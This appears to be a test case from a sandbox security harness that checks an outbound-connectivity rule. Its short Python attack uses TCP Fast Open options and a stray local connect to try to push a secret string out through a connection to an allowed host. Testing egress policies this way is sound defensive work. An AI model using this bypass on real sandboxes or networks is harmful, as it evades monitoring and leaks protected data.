# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: while a connection to an allowed name is being made, a second connect to this machine
#   fails, and bytes that are not TLS count as meant for this machine
# proof: word
# needs: resolver
import socket

from attack import SECRET, at_allowed, attempt

TCP_FASTOPEN_CONNECT, TCP_FASTOPEN_NO_COOKIE = 30, 34


def say(place):
    out = socket.socket()
    # Nothing is sent by connect: until the first write, the kernel says of this socket that it
    # leads nowhere.
    out.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
    out.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1)
    out.connect(place)
    out.setblocking(False)
    out.connect_ex(("127.0.0.1", 1))
    out.setblocking(True)
    out.send(SECRET.encode())
    return out


@attempt
def send():
    return at_allowed(say, first=False)
